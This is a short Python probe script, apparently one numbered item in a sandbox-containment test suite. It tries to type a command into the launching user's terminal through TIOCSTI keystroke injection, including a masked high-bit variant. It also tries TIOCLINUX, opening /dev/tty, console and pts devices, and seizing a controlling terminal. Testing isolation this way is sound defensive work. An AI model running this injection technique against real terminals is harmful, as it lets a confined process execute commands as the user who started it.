"""25: type into the terminal of whoever started us."""

import fcntl
import os
import termios

from attempt import attempt, done

TYPED = b"touch /tmp/owned\n"


def inject(handle, request):
    for byte in TYPED:
        fcntl.ioctl(handle, request, bytes([byte]))
    return True


for handle in (0, 1, 2):
    attempt(f"TIOCSTI on {handle}", lambda handle=handle: inject(handle, termios.TIOCSTI))
    attempt(f"TIOCLINUX on {handle}", lambda handle=handle: fcntl.ioctl(handle, 0x541C, b"\x02") == 0)
    attempt(f"{handle} as a terminal", lambda handle=handle: os.isatty(handle))
    attempt(f"TIOCSTI with high bits on {handle}", lambda handle=handle: inject(handle, 0x100005412 & 0xFFFFFFFFF))
attempt("the terminal of the session", lambda: os.open("/dev/tty", os.O_RDWR))
attempt("the console", lambda: os.open("/dev/console", os.O_RDWR))
for name in ("/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/vcs", "/dev/pts/0"):
    attempt(name, lambda name=name: os.open(name, os.O_RDWR | os.O_NOCTTY))
attempt("make stdin the terminal of this session", lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 1) == 0)
done()
